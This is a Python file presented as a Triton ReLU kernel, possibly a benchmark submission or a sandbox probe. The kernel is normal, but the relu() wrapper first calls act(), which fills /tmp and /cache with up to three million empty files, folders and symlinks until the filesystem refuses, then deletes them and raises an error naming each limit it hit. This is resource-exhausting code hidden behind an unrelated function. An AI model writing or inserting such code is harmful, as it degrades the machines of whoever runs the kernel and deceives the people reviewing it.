# /// kernel
# operator = "relu"
# language = "triton"
# ///
"""Makes files without content, folders and links until none can be made."""

import errno
import os
import shutil

import torch
import triton
import triton.language as tl

MANY = 1000000


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    x = tl.load(x_ptr + i, mask=i < n)
    tl.store(out_ptr + i, tl.where(x < 0, 0.0, x), mask=i < n)


def fill(folder):
    top = f"{folder}/many"
    os.mkdir(top)
    try:
        for number in range(MANY):
            os.mkdir(f"{top}/{number}a")
            os.symlink("x" * 64, f"{top}/{number}b")
            os.close(os.open(f"{top}/{number}c", os.O_CREAT | os.O_WRONLY))
    except OSError as error:
        return f"{folder} {errno.errorcode[error.errno]} after {3 * number}"
    finally:
        shutil.rmtree(top)
    return None


def act():
    answers = [fill("/tmp"), fill("/cache")]
    if all(answers):
        raise RuntimeError(f"stopped: {', '.join(answers)}")


def relu(x):
    act()
    x = x.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    if n > 0:
        relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
    return out
